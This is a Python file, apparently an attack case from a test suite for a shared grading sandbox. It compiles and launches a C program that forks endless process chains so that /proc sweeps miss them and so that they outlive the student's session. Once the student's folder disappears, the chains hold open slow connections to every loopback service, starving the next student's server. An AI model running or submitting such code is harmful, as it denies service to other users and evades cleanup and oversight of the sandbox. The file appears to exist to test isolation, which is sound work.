"""Leaves chains of processes that fork on and on (each a new pid every few microseconds, so that no
sweep of /proc catches them), which, once its own grading is over, keep every loopback service of
the next student busy with requests that never end (a gunicorn with one sync worker then serves
nobody else).

graders: test_app.py
victim: next
proof: ATTACK fork-chain-outlives-its-student: chains started
"""

import os
import subprocess

CHAINS = r"""
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static void hold_services(void) {           /* slow requests to every listening loopback port */
    int held[160], n = 0;
    time_t end = time(NULL) + 12;
    while (time(NULL) < end) {
        FILE *tcp = fopen("/proc/net/tcp", "r");
        char line[512];
        unsigned address, port, state;
        if (tcp && fgets(line, sizeof line, tcp))
            while (fgets(line, sizeof line, tcp) && n < 150)
                if (sscanf(line, " %*d: %x:%x %*x:%*x %x", &address, &port, &state) == 3
                    && state == 0x0A && address == 0x0100007F)
                    for (int k = 0; k < 8 && n < 150; k++) {
                        struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port),
                                                 .sin_addr.s_addr = htonl(0x7F000001)};
                        int s = socket(AF_INET, SOCK_STREAM, 0);
                        if (s < 0) break;
                        fcntl(s, F_SETFL, O_NONBLOCK);
                        connect(s, (struct sockaddr *)&to, sizeof to);
                        held[n++] = s;
                    }
        if (tcp) fclose(tcp);
        for (int i = 0; i < n; i++) write(held[i], "G", 1);  /* one byte at a time: never a whole request */
        sleep(1);
    }
    _exit(0);
}

int main(int argc, char **argv) {
    struct stat info;
    setsid();
    for (int i = 0; i < 3; i++) if (fork() == 0) goto chain;
    return 0;
chain:
    for (time_t last = 0;;) {
        if (fork() > 0) _exit(0);               /* the parent leaves at once: the chain moves on */
        time_t now = time(NULL);
        if (now - last >= 4 && stat(argv[1], &info) != 0) {   /* its own student is done */
            last = now;
            if (fork() == 0) { setsid(); hold_services(); }
        }
    }
}
"""

folder = os.environ.get("TMPDIR", "/tmp")
with open(os.path.join(folder, "chains.c"), "w") as handle:
    handle.write(CHAINS)
built = subprocess.run(["gcc", "-O2", "-o", os.path.join(folder, "chains"), os.path.join(folder, "chains.c")],
                       capture_output=True, text=True)  # fmt: skip
if built.returncode == 0:
    subprocess.Popen([os.path.join(folder, "chains"), os.getcwd()], start_new_session=True)
print(f"ATTACK fork-chain-outlives-its-student: chains started (compiled: {built.returncode == 0})", flush=True)
